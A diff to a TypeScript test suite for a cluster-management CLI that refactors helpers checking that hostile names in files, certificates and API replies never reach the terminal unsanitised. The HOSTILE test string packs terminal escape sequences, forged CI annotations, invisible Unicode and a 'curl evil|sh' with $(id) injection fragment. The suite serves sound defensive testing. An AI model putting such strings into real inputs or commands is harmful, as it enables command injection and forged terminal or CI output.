@@ -11,6 +11,9 @@ import { type FakeApiServer, fakeApiServer, kubeconfigFor, repliesOf } from "../
 import { rootCa } from "../support/external-ca";
 import { BUNDLE, CA_KEY, edit, rendered, SERVER, SOPS_YAML } from "./place";
 
+/** The only room that prints. */
+const CLI = path.join(__dirname, "../../src/cli");
+
 /** Everything that a terminal, a CI runner, a reader or a shell would obey; a path can hold it. */
 const HOSTILE =
   "x\u001b]0;t\u0007\u001b[2J\u001b[32mGREEN\r\n::warning file=a::FORGED\nFORGED\u202e\u2066\u009b31m\u2028\u2029\u200b\u00ad\u{e0041}##[error]FORGED ##vso[a.b]FORGED;curl evil|sh `id` $(id) 'q' #";
@@ -167,14 +170,14 @@ function assertHarmless({ out, err }: Ran, colour = false): void {
 }
 
 /** Runs every command; everything that is said is harmless, and what is structured is read back. */
-async function runAll(at: string, home: string, commands = COMMANDS): Promise<string> {
+async function runAll(at: string, home: string, commands = COMMANDS, colours = [false, true]): Promise<string> {
   const { operator } = await holders();
   const said: string[] = [];
   const env = { HOME: home, SOPS_AGE_KEY: operator.identity, KUBECONFIG: path.join(home, "config") };
   const cwd = copyOf(at);
   for (const [command, ways] of Object.entries(commands)) {
     for (const way of ways) {
-      for (const colour of [false, true]) {
+      for (const colour of colours) {
         const ran = await runIn({ cwd, env, colour, now: NOW }, ...command.split(" "), ...way);
         assertHarmless(ran, colour);
         said.push(ran.out, ran.err);
@@ -211,9 +214,9 @@ test("no argument or option reaches the terminal with what a terminal, a CI runn
   }
 });
 
-/** Commands that read all of a repository. */
-const READERS = Object.fromEntries(
-  [
+/** Commands that read all of a repository, in the ways that `isOne` picks. */
+function readers(isOne: (way: readonly string[]) => boolean): typeof COMMANDS {
+  const names = [
     "synth",
     "status",
     "check",
@@ -225,8 +228,36 @@ const READERS = Object.fromEntries(
     "renew",
     "rotate-ca status",
     "reseal",
-  ].map((name) => [name, COMMANDS[name]!]),
-);
+  ];
+  return Object.fromEntries(names.map((name) => [name, COMMANDS[name]!.filter(isOne)]));
+}
+
+/** Whether an argument is the name of a cluster or a word that is shown, and no value of an option. */
+const namesCluster = ([first = ""]: readonly string[]) => [HOSTILE, DASHED].includes(first);
+const saysHostileWord = (way: readonly string[]) => way.some((word) => [HOSTILE, DASHED].includes(word));
+const asksCluster = (way: readonly string[]) => way.includes("--context");
+
+/**
+ * Reads a repository that holds a hostile text. A hostile argument beside it is left out, and so is a live cluster: what a
+ * command says of an option depends on no file, and the tests above and below give every one of them. A name of a cluster
+ * does depend on files.
+ *
+ * All of it is said in colour. `paint` alone looks at whether it is: without colour, the same lines pass a guard that
+ * lets less through (src/cli/terminal.ts).
+ */
+async function readAll(at: string, clusters?: "named clusters"): Promise<string> {
+  const isNamed = clusters === "named clusters";
+  const isOne = (way: readonly string[]) =>
+    !asksCluster(way) && (!saysHostileWord(way) || (isNamed && namesCluster(way)));
+  return runAll(at, newFolder(), readers(isOne), [true]);
+}
+
+test("whether it is said in colour is asked by what paints and by the last guard alone", () => {
+  const asking = (fs.readdirSync(CLI, { recursive: true }) as string[])
+    .filter((file) => file.endsWith(".ts") && /\.colour\b|const \{[^}]*\bcolour\b/.test(read(CLI, file)))
+    .sort();
+  expect(asking).toEqual(["terminal.ts"]);
+});
 
 test.each<[string, (at: string) => void]>([
   [
@@ -247,7 +278,7 @@ test.each<[string, (at: string) => void]>([
 ])("%s with a hostile name reaches no terminal, and no remedy that is pasted", async (_, plant) => {
   const at = copyOf(root);
   plant(at);
-  await runAll(at, newFolder(), READERS);
+  await readAll(at, "named clusters");
 });
 
 test("no value and no key of cluster.yaml reaches the terminal as it is", async () => {
@@ -278,7 +309,7 @@ test("no value and no key of cluster.yaml reaches the terminal as it is", async 
     const document = parseDocument(text);
     change(document);
     write(at, "clusters/demo/cluster.yaml", document.toString());
-    await runAll(at, newFolder(), { synth: [[]], check: [[], ["-o", "yaml"]] });
+    await runAll(at, newFolder(), { synth: [[]], check: [[], ["-o", "yaml"]] }, [true]);
   }
 });
 
@@ -308,7 +339,7 @@ test("no name in a certificate reaches the terminal as it is", async () => {
   const at = copyOf(root);
   const ca = rootCa(HOSTILE);
   write(at, BUNDLE, ca.certificate.pem + read(root, BUNDLE));
-  const said = await runAll(at, newFolder(), READERS);
+  const said = await readAll(at);
   expect(said).toContain("GREEN");
   const given = path.join(newFolder(), "ca.pem");
   fs.writeFileSync(given, ca.certificate.pem);
@@ -349,7 +380,7 @@ test.each([
 ])("%s reaches the terminal only as it can be shown", async (_, change) => {
   const at = copyOf(root);
   change(at);
-  await runAll(at, newFolder(), READERS);
+  await readAll(at);
 });
 
 test("no context, and no name that the API server answers, reaches the terminal as it is", async () => {
@@ -380,7 +411,7 @@ test("no context, and no name that the API server answers, reaches the terminal 
       JSON.stringify(sound, (key, value) => (key === hostile && typeof value === "string" ? HOSTILE : value)),
     );
     server.replies = repliesOf(observed, git.location);
-    await runAll(root, home, { doctor: [["--context", "demo", "demo"]] });
+    await runAll(root, home, { doctor: [["--context", "demo", "demo"]] }, [true]);
   }
   server.replies = {};
 });
